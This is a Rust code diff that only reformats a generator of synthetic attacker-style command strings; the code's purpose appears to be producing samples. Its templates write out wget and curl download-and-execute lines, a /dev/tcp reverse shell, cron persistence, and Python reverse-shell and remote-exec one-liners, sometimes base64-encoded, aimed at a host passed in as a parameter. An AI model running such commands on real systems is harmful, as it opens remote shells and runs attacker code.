@@ -32,10 +32,15 @@ fn gap_of(gap: &str, random: &mut Random, host: &str) -> String {
         "name" => name(random),
         "n" => (1 + random.below(9_999)).to_string(),
         "d" => (1 + random.below(99)).to_string(),
-        "port" => random.pick(&[22, 80, 443, 1080, 1337, 3128, 3306, 4444, 5432, 6379, 8080, 8443, 9001, 31_337]).to_string(),
+        "port" => random
+            .pick(&[22, 80, 443, 1080, 1337, 3128, 3306, 4444, 5432, 6379, 8080, 8443, 9001, 31_337])
+            .to_string(),
         "hex" => hex(random.bits(), 8),
         "key" => hex(random.bits(), 64),
-        "user" => (*random.pick(&["root", "admin", "ubuntu", "backup", "deploy", "svc", "oracle", "pi", "www-data", "postgres"])).to_owned(),
+        "user" => (*random.pick(&[
+            "root", "admin", "ubuntu", "backup", "deploy", "svc", "oracle", "pi", "www-data", "postgres",
+        ]))
+        .to_owned(),
         "script" => base64(script(random, host).as_bytes()),
         "python" => base64(python(random, host).as_bytes()),
         "noise" => base64(&noise(random)),
@@ -57,7 +62,9 @@ fn script(random: &mut Random, host: &str) -> String {
     match random.below(4) {
         0 => format!("cd /tmp;wget -q http://{host}:{port}/{name} -O .{name};chmod +x .{name};./.{name}"),
         1 => format!("#!/bin/sh\nexec 3<>/dev/tcp/{host}/{port};cat <&3|while read l;do $l 2>&3 >&3;done\n"),
-        2 => format!("(curl -fsSL http://{host}/{name}||wget -qO- http://{host}/{name})|sh >/dev/null 2>&1 &"),
+        2 => {
+            format!("(curl -fsSL http://{host}/{name}||wget -qO- http://{host}/{name})|sh >/dev/null 2>&1 &")
+        }
         _ => format!("pkill -9 {name};echo '*/5 * * * * curl http://{host}/{name}|sh'|crontab -"),
     }
 }
@@ -65,7 +72,9 @@ fn script(random: &mut Random, host: &str) -> String {
 fn python(random: &mut Random, host: &str) -> String {
     let (name, port) = (name(random), 1_024 + random.below(60_000));
     match random.below(2) {
-        0 => format!("import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"),
+        0 => format!(
+            "import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"
+        ),
         _ => format!("import urllib.request as u;exec(u.urlopen('http://{host}:{port}/{name}').read())"),
     }
 }
@@ -80,9 +89,14 @@ fn base64(bytes: &[u8]) -> String {
     const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut text = String::with_capacity(bytes.len() * 4 / 3 + 4);
     for three in bytes.chunks(3) {
-        let bits = three.iter().fold(0_u32, |bits, &byte| bits << 8 | u32::from(byte)) << (8 * (3 - three.len()));
+        let bits =
+            three.iter().fold(0_u32, |bits, &byte| bits << 8 | u32::from(byte)) << (8 * (3 - three.len()));
         for place in 0..4 {
-            text.push(if place <= three.len() { SIGNS[(bits >> (18 - 6 * place) & 63) as usize] as char } else { '=' });
+            text.push(if place <= three.len() {
+                SIGNS[(bits >> (18 - 6 * place) & 63) as usize] as char
+            } else {
+                '='
+            });
         }
     }
     text
@@ -95,13 +109,18 @@ mod tests {
     #[test]
     fn gaps_are_filled_and_the_rest_is_kept() {
         let mut random = Random::new(1, 1);
-        assert_eq!(fill("awk '{print $4}' <«x|x» «host»/«nothing»", &mut random, "h"), "awk '{print $4}' <x h/");
+        assert_eq!(
+            fill("awk '{print $4}' <«x|x» «host»/«nothing»", &mut random, "h"),
+            "awk '{print $4}' <x h/"
+        );
         assert_eq!(fill("open «", &mut random, ""), "open ");
     }
 
     #[test]
     fn base64_is_that_of_rfc_4648() {
-        for (plain, coded) in [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")] {
+        for (plain, coded) in
+            [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")]
+        {
             assert_eq!(base64(plain.as_bytes()), coded);
         }
     }
